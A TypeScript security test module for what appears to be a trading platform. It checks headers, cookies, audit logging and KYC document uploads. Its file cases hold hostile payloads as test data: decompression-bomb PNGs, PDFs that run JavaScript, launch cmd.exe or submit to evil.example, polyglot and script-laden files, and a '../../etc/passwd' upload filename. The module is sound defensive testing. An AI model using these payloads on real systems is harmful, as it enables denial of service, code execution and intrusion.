/** Headers, files, the audit log, and what is left of an attack afterwards. */
import { createHash, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { sleep } from '../../services/process';
import { held } from '../attack';
import type { Attack } from '../attack';
import { PASSWORD } from '../stage';
import type { Stage } from '../stage';

const HEADERS: readonly [what: string, path: string, name: string, good: (value: string) => boolean][] = [
  ['the page may be framed', '/', 'content-security-policy', (value) => value.includes("frame-ancestors 'none'")],
  [
    'scripts of other places run',
    '/',
    'content-security-policy',
    (value) =>
      /script-src 'self'(;| |$)/.test(value) && !value.includes('unsafe-inline') && !value.includes('unsafe-eval'),
  ],
  [
    'a script speaks to any host by WebSocket',
    '/',
    'content-security-policy',
    (value) => !/connect-src[^;]* wss?:( |;|$)/.test(value),
  ],
  [
    'markup becomes script (Trusted Types)',
    '/',
    'content-security-policy',
    (value) => value.includes('require-trusted-types-for'),
  ],
  ['a base element moves every link', '/', 'content-security-policy', (value) => value.includes("base-uri 'none'")],
  ['types are guessed', '/', 'x-content-type-options', (value) => value === 'nosniff'],
  [
    'camera and location are asked for',
    '/',
    'permissions-policy',
    (value) => value.includes('camera') && value.includes('geolocation'),
  ],
  [
    'addresses leak to other sites',
    '/',
    'referrer-policy',
    (value) => value === 'same-origin' || value === 'no-referrer',
  ],
  ['private answers are kept by a cache', '/api/session', 'cache-control', (value) => value.includes('no-store')],
  ['refusals are kept by a cache', '/api/balances', 'cache-control', (value) => value.includes('no-store')],
  ['unknown routes are kept by a cache', '/api/none-such', 'cache-control', (value) => value.includes('no-store')],
];

const headers: Attack[] = [
  ...HEADERS.map(([what, path, name, good], at): Attack => ({
    id: `HEADERS ${at + 1}`,
    what,
    quick: true,
    run: async (stage) => {
      const value = String((await stage.stranger().ask('GET', path)).headers[name] ?? '');
      held(good(value), `${name}: ${value.slice(0, 120) || 'is not there'}`);
      return `${name}`;
    },
  })),
  {
    id: 'HEADERS 12',
    what: 'a cookie is read by scripts, or sent along by other sites',
    run: async (stage) => {
      const answer = await stage.stranger().ask('POST', '/api/session', {
        body: { email: (await stage.account()).email, password: 'a sturdy phrase of this attack' },
      });
      const cookie = answer.headers['set-cookie']?.join(' ') ?? '';
      held(/HttpOnly/i.test(cookie) && /SameSite=(Lax|Strict)/i.test(cookie), cookie.replace(/=[^;]+/, '=...'));
      return 'HttpOnly, SameSite';
    },
  },
  {
    id: 'A15.2',
    what: 'a caller without a proxy names an address of its own choice',
    run: async (stage) => {
      const browser = stage.stranger();
      const answer = await browser.logIn((await stage.account()).email, PASSWORD, {
        headers: { 'x-forwarded-for': '203.0.113.7' },
        from: '127.0.3.9',
      });
      if (answer.status !== 200) throw new Error(`${answer.status} ${answer.code}`);
      const { text } = await browser.ask('GET', '/api/sessions');
      held(!text.includes('203.0.113.'), 'it is taken for 203.0.113.7');
      return 'its own address is what counts';
    },
  },
  {
    id: 'A15.1',
    what: 'another Host with the same Origin is taken for our page',
    run: async (stage) => {
      const { status, code } = await stage.trader.ask('DELETE', '/api/orders?symbol=ETHUSDT', {
        headers: { host: 'rebind.evil.example', origin: 'http://rebind.evil.example' },
      });
      held(status >= 400, `${status} ${code}`);
      return `${status} ${code}`;
    },
  },
];

/** A PNG of any size, all of one colour: small as a file, large when drawn. */
export function pngOf(width: number, height: number, bits: 1 | 8 | 16 = 1, colour: 0 | 2 | 6 = 0): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([bits, colour, 0, 0, 0], 8);
  const channels = { 0: 1, 2: 3, 6: 4 }[colour];
  const row = 1 + Math.ceil((width * bits * channels) / 8);
  const lines = Math.min(height, Math.floor(400_000_000 / row));
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(row * lines), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

const PDF = (body: string): Buffer =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${body}>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    'latin1',
  );
const FILES: readonly [what: string, mime: string, make: () => Buffer][] = [
  ['a picture of 1 by 60,000,000', 'image/png', () => pngOf(1, 60_000_000)],
  ['a picture of 60,000,000 by 1', 'image/png', () => pngOf(60_000_000, 1)],
  ['a picture of 7,745 by 7,746 in 16 bits with alpha', 'image/png', () => pngOf(7745, 7746, 16, 6)],
  ['a picture of 13,000 by 2,000', 'image/png', () => pngOf(13_000, 2000)],
  ['a picture of 20,000 by 20,000', 'image/png', () => pngOf(20_000, 20_000)],
  ['a picture that says it has no width', 'image/png', () => pngOf(0, 10)],
  ['a picture that is cut off', 'image/png', () => pngOf(100, 100).subarray(0, 60)],
  ['a PDF that opens with a script', 'application/pdf', () => PDF('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF that starts a program', 'application/pdf', () => PDF('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a PDF that sends a form away', 'application/pdf', () => PDF('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>')],
  ['a PDF with a file inside', 'application/pdf', () => PDF('/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>')],
  [
    'a PDF that is a ZIP too',
    'application/pdf',
    () => Buffer.concat([PDF(''), Buffer.from('504b0304140000000800', 'hex')]),
  ],
  ['a web page as a PDF', 'application/pdf', () => Buffer.from('<html><script>alert(1)</script></html>%PDF-1.4')],
  [
    'an SVG with a script',
    'image/png',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ],
  ['a ZIP as a picture', 'image/png', () => Buffer.from('504b03041400000008000000000000000000', 'hex')],
  ['a file of nothing', 'image/png', () => Buffer.alloc(0)],
];

/**
 * An identity application with this file, by an account of its own. Answers its status, and how long a reader waited
 * meanwhile (ms).
 */
async function upload(
  stage: Stage,
  mime: string,
  bytes: Buffer,
): Promise<{ status: number; code: string; userId: string; waitedMs: number }> {
  const { email } = await stage.account();
  const browser = await stage.logged(email, `127.0.2.${1 + Math.floor(Math.random() * 200)}`);
  const field = (name: string, value: string): string =>
    `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
  const number = createHash('sha256').update(randomBytes(8)).digest('hex').slice(0, 9).toUpperCase();
  const head = `${field('fullName', 'Ada Lovelace')}${field('country', 'GB')}${field('birthDate', '1990-05-17')}${field('documentType', 'passport')}${field('documentNumber', number)}--x\r\nContent-Disposition: form-data; name="document"; filename="../../etc/passwd"\r\nContent-Type: ${mime}\r\n\r\n`;
  const sent = browser.ask('POST', '/api/kyc', {
    raw: Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--x--\r\n')]),
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
  });
  let waitedMs = 0;
  let done = false;
  void sent.finally(() => (done = true)).catch(() => undefined);
  while (!done) {
    const began = performance.now();
    await stage.stranger().ask('GET', '/healthz');
    waitedMs = Math.max(waitedMs, performance.now() - began);
  }
  const { status, code } = await sent;
  return { status, code, userId: browser.userId, waitedMs };
}

/** What a stored document is served as: never a file that acts. */
async function served(stage: Stage, userId: string): Promise<string> {
  const [row] = await stage.query<{ id: string }>('SELECT id FROM kyc_applications WHERE user_id = ?', [userId]);
  const answer = await stage.admin.ask('GET', `/api/admin/kyc/${row?.id ?? ''}/document`);
  return String(answer.headers['content-type']);
}

const files: Attack[] = FILES.map(([what, mime, make], at): Attack => ({
  id: at < 7 ? `A5.${at + 1}` : `A9.${at - 6}`,
  what: `${what} as an identity document`,
  quick: at === 0 || at === 7,
  run: async (stage) => {
    const { status, code, userId, waitedMs } = await upload(stage, mime, make());
    held(waitedMs < 5000, `others waited ${Math.round(waitedMs)} ms`);
    if (status >= 400) {
      held(status < 500 || code === 'BUSY', `${status} ${code}`);
      return `${status} ${code}`;
    }
    const type = await served(stage, userId);
    held(type.startsWith('image/'), `it is stored and served as ${type}`);
    return `drawn anew as ${type}`;
  },
}));

const audit: Attack[] = [
  {
    id: 'A3.1',
    what: 'the audit log after an inside transfer, a pause and a market switch, whatever the keys hold',
    quick: true,
    run: async (stage) => {
      const key = 'k'.repeat(64);
      const done = [
        await stage.admin.ask('POST', '/api/admin/assets/SOL/pause', {
          body: { why: 'an attack' },
          headers: { 'idempotency-key': key },
        }),
        await stage.admin.ask('POST', '/api/admin/assets/SOL/pause', {
          body: { why: null },
          headers: { 'idempotency-key': `${'k'.repeat(63)}2` },
        }),
        await stage.admin.ask('POST', '/api/admin/markets/SOLUSDT', {
          body: { state: 'TRADING', internalOnly: false },
          headers: { 'idempotency-key': key },
        }),
      ];
      held(
        done.every(({ status }) => status === 200),
        `the actions themselves: ${done.map(({ status, code }) => `${status} ${code}`).join(', ')}`,
      );
      for (const limit of [1, 2, 100]) {
        const { status } = await stage.admin.ask('GET', `/api/admin/audit-log?limit=${limit}`);
        held(status === 200, `limit ${limit}: ${status}`);
      }
      return '200 at every size of page';
    },
  },
  {
    id: 'A3.2',
    what: 'one row that fits no schema keeps the whole audit log from being read',
    run: async (stage) => {
      const id = `attack-${randomBytes(6).toString('hex')}`;
      await stage.query(
        "INSERT INTO admin_audit (id, admin_id, action, subject, details, at) VALUES (?, 'not an id', 'market.set', 'SOLUSDT', '{}', ?)",
        [id, Date.now()],
      );
      const answer = await stage.admin.ask('GET', '/api/admin/audit-log?limit=100');
      held(answer.status === 200, `${answer.status} ${answer.code}`);
      const { items, unreadable } = answer.json<{ items: { id: string }[]; unreadable?: string[] }>();
      held(
        items.length > 0 && unreadable?.includes(id) === true,
        `${items.length} rows, unreadable: ${String(unreadable)}`,
      );
      return 'the others are shown, and it is named';
    },
  },
  {
    id: 'A17.1',
    what: 'two admins act with one key of 64 characters',
    run: async (stage) => {
      const { email } = await stage.account({ role: 'admin' });
      const second = await stage.logged(email);
      const key = randomBytes(32).toString('hex');
      const first = await stage.admin.ask('POST', '/api/admin/assets/XRP/pause', {
        body: { why: 'one' },
        headers: { 'idempotency-key': key },
      });
      const other = await second.ask('POST', '/api/admin/assets/LTC/pause', {
        body: { why: 'two' },
        headers: { 'idempotency-key': key },
      });
      for (const asset of ['XRP', 'LTC'])
        await stage.admin.ask('POST', `/api/admin/assets/${asset}/pause`, { body: { why: null } });
      held(
        first.status === 200 && other.status === 200,
        `${first.status} ${first.code}, ${other.status} ${other.code}`,
      );
      return 'both are done';
    },
  },
  {
    id: 'A11.1',
    what: 'a failed log-in leaves no trace, or a trace with the password in it',
    run: async (stage) => {
      const canary = `canary-${randomBytes(6).toString('hex')}`;
      const { email, userId } = await stage.account();
      await stage.stranger().ask('POST', '/api/session', { body: { email, password: canary } });
      // Nobody waits for what was refused: it is written after the answer.
      const told = async (): Promise<boolean> =>
        (
          await stage.query(
            "SELECT 1 FROM security_events WHERE kind = 'log-in' AND outcome = 'refused' AND user_id = ?",
            [userId],
          )
        ).length > 0;
      for (let tries = 0; tries < 40 && !(await told()); tries++) await sleep(50);
      held(await told(), 'no row tells of it');
      const dumps = await stage.query<{ dump: string | null }>(
        'SELECT GROUP_CONCAT(CONCAT_WS("|", kind, outcome, details) SEPARATOR ";") AS dump FROM security_events',
      );
      held(!dumps[0]?.dump?.includes(canary), 'the password stands in it');
      return 'a row without the password';
    },
  },
];

export const traces: readonly Attack[] = [...headers, ...audit, ...files];
